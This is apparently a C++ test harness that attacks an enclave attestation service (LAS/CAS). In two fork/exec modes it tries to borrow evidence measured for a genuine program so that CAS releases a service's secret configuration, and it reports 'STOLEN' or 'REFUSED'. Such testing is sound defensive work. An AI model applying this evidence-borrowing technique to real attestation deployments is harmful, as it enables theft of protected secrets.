// An attacker that tries to borrow evidence: it connects to LAS, forks, and has LAS measure a
// genuine program (started by exec, with the runtime preloaded) while it keeps the reply for a
// key of its own, then asks CAS for the service's configuration with that evidence.
//
// usage: scone_las_attacker MODE LAS_SOCKET CAS_HOST:PORT CAS_CERT CONFIG_ID RUNTIME PROGRAM...
//   child-sends      the parent execs PROGRAM; the child, once the parent runs it, sends its
//                    own report data on the inherited connection.
//   exec-after-send  the parent sends the child's report data (the child holds the key) and
//                    then execs PROGRAM; the child reads the reply.
//   honest           no fork: asks for itself (evidence for this program, which CAS refuses).
// Prints one line: "STOLEN: <argv CAS released>", "LAS REFUSED: ...", "CAS REFUSED: ...".
#include <signal.h>
#include <sys/wait.h>
#include <unistd.h>

#include <chrono>
#include <cstdio>
#include <fstream>
#include <sstream>
#include <string>
#include <thread>

#include "attest/las.h"
#include "cas/attestation_client.h"
#include "crypto/tls_identity.h"

using namespace scone;

namespace {

std::string Slurp(const std::string& path) {
  std::ifstream in(path);
  std::stringstream s;
  s << in.rdbuf();
  return s.str();
}

// Until process `pid` runs with the runtime mapped (it has executed the genuine program).
bool AwaitExecuted(pid_t pid) {
  for (int i = 0; i < 1000; ++i) {
    if (Slurp("/proc/" + std::to_string(pid) + "/maps").find("libscone-runtime") != std::string::npos) return true;
    std::this_thread::sleep_for(std::chrono::milliseconds(10));  // polling another process (bounded)
  }
  return false;
}

int Report(const std::string& line) {
  std::printf("%s\n", line.c_str());
  std::fflush(stdout);
  return 0;
}

// Uses `evidence` for `credential` with CAS, as the runtime would.
int UseEvidence(const cas::AttestationEndpoint& cas, attest::TlsCredential& credential,
                const Result<attest::Evidence>& evidence, const std::string& config_id) {
  if (!evidence.ok()) return Report("LAS REFUSED: " + evidence.status().message());
  if (Status s = credential.AttachEvidence(*evidence); !s.ok()) return Report("ERROR: " + s.message());
  cas::Request request;
  request.kind = cas::RequestKind::kConfig;
  request.config_id = config_id;
  auto blob = cas::Exchange(cas, credential, request);
  if (!blob.ok()) return Report("CAS REFUSED: " + blob.status().message());
  auto config = cas::ServiceConfig::Decode(*blob);
  if (!config.ok()) return Report("ERROR: " + config.status().message());
  std::string argv;
  for (const std::string& a : config->argv) argv += (argv.empty() ? "" : " ") + a;
  return Report("STOLEN: " + argv);
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 8) {
    std::fprintf(stderr, "usage: %s MODE LAS_SOCKET CAS_HOST:PORT CAS_CERT CONFIG_ID RUNTIME PROGRAM...\n", argv[0]);
    return 2;
  }
  std::string mode = argv[1], las = argv[2], addr = argv[3], cas_cert = argv[4], config_id = argv[5];
  std::string preload = std::string("LD_PRELOAD=") + argv[6];
  char** program = argv + 7;
  cas::AttestationEndpoint cas;
  cas.host = addr.substr(0, addr.rfind(':'));
  cas.port = std::atoi(addr.c_str() + addr.rfind(':') + 1);
  cas.cas_key_hash = FromHexArray<crypto::kHashSize>(crypto::PublicKeyFingerprintOfFile(cas_cert).value()).value();

  attest::TlsCredential credential = attest::TlsCredential::Generate("attacker").value();
  auto nonce = cas::FetchNonce(cas);
  if (!nonce.ok()) return Report("ERROR: " + nonce.status().message());
  attest::ReportData data = attest::BindReportData(credential.key_hash(), *nonce);
  auto fd = attest::ConnectLas(las);
  if (!fd.ok()) return Report("ERROR: " + fd.status().message());
  auto exec_genuine = [&] {
    char* env[] = {preload.data(), nullptr};
    execve(program[0], program, env);
    _exit(127);
  };

  if (mode == "honest") {
    Status sent = attest::SendEvidenceRequest(*fd, data, std::nullopt);
    return UseEvidence(cas, credential, sent.ok() ? attest::ReceiveEvidence(*fd) : Result<attest::Evidence>(sent),
                       config_id);
  }
  if (mode == "child-sends") {
    pid_t parent = getpid();
    if (fork() != 0) exec_genuine();
    if (!AwaitExecuted(parent)) return Report("ERROR: the parent never ran the genuine program");
    Status sent = attest::SendEvidenceRequest(*fd, data, std::nullopt);
    return UseEvidence(cas, credential, sent.ok() ? attest::ReceiveEvidence(*fd) : Result<attest::Evidence>(sent),
                       config_id);
  }
  if (mode == "exec-after-send") {
    if (fork() == 0) return UseEvidence(cas, credential, attest::ReceiveEvidence(*fd), config_id);
    Status sent = attest::SendEvidenceRequest(*fd, data, std::nullopt);
    if (!sent.ok()) return Report("ERROR: " + sent.message());
    exec_genuine();
  }
  return Report("ERROR: unknown mode " + mode);
}
